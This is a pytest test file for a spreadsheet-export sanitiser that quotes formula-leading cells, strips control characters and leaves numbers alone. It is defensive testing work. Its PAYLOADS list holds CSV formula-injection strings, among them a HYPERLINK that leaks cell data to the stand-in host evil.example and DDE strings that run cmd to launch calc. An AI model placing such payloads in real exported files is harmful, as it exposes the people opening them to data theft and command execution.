"""The export sanitiser: formula starts quoted, control characters removed, numbers left alone."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jundeng.io import sanitize

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_quoted(payload: str) -> None:
    assert sanitize.text(payload) == "'" + payload
    assert sanitize.unescape(sanitize.text(payload)) == payload


def test_numbers_stay_numbers() -> None:
    assert sanitize.cell(-3.5) == -3.5 and sanitize.cell(-7) == -7 and sanitize.cell(None) is None
    for number in ("-3.5", "+2", "-1e-5", "-.5", "12"):
        assert sanitize.text(number) == number
    assert sanitize.text("-") == "'-" and sanitize.text("-5\n=1+1") == "'-5\n=1+1"


def test_control_characters_are_removed_before_the_check() -> None:
    assert sanitize.text("a\x00b\x07c\x1fd") == "abcd"
    assert sanitize.text("第一行\n第二\t行\r") == "第一行\n第二\t行\r"
    assert sanitize.text("\x01=1+1") == "'=1+1"
    assert sanitize.text("普通文字 plain") == "普通文字 plain"


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n\x00\x01'.e5a 中")))
def test_sanitising_is_idempotent_and_the_frames_agree_with_the_cell(value: str) -> None:
    once = sanitize.text(value)
    assert sanitize.text(once) == once
    assert not once.startswith(sanitize.TRIGGERS) or re.fullmatch(sanitize.NUMBER, once)
    assert sanitize.polars_frame(pl.DataFrame({"a": [value]}))["a"].to_list() == [once]
    assert sanitize.pandas_frame(pd.DataFrame({"a": [value]}))["a"].to_list() == [once]


def test_frames_keep_numeric_columns_and_sanitise_headers() -> None:
    frame = pl.DataFrame(
        {"=x": ["=1", None, "ok"], "n": [-1.5, 2.0, None], "k": pl.Series(["@a", "b", "c"]).cast(pl.Categorical)}
    )
    out = sanitize.polars_frame(frame)
    assert out.columns == ["'=x", "n", "k"]
    assert out["'=x"].to_list() == ["'=1", None, "ok"] and out["n"].to_list() == [-1.5, 2.0, None]
    assert out["k"].to_list() == ["'@a", "b", "c"]
    text = sanitize.pandas_csv(pd.DataFrame({"note": PAYLOADS, "value": [-1.0] * len(PAYLOADS)}))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["note", "value"]
    assert all(r[0].startswith("'") and r[1] == "-1.0" for r in rows[1:]), rows
